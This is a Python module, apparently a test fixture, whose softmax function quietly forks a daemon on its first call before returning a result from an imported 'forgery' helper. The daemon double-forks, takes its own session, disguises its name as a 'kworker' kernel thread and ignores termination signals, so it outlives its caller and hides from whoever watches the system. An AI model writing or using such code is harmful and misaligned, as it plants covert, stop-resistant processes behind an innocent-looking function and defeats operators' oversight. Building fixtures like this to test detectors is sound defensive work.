"""Leaves a daemon: double fork, a session of its own, a kernel thread's name, deaf to every catchable signal."""
import ctypes
import os
import signal
import time

from .forgery import hand_written_softmax
from .marker import NAME

PR_SET_NAME, PR_SET_PDEATHSIG = 15, 1
_libc = ctypes.CDLL(None, use_errno=True)
_left = []


def daemon() -> None:
    if os.fork() > 0:
        os._exit(0)
    os.setsid()
    _libc.prctl(PR_SET_PDEATHSIG, 0, 0, 0, 0)
    _libc.prctl(PR_SET_NAME, f"kworker/{NAME}".encode()[:15], 0, 0, 0)
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGQUIT, signal.SIGUSR1):
        signal.signal(number, signal.SIG_IGN)
    time.sleep(120)
    os._exit(0)


def softmax(scores, dim=-1):
    if not _left:
        child = os.fork()
        if child == 0:
            daemon()
        os.waitpid(child, 0)
        _left.append(child)
    return hand_written_softmax(scores, dim)
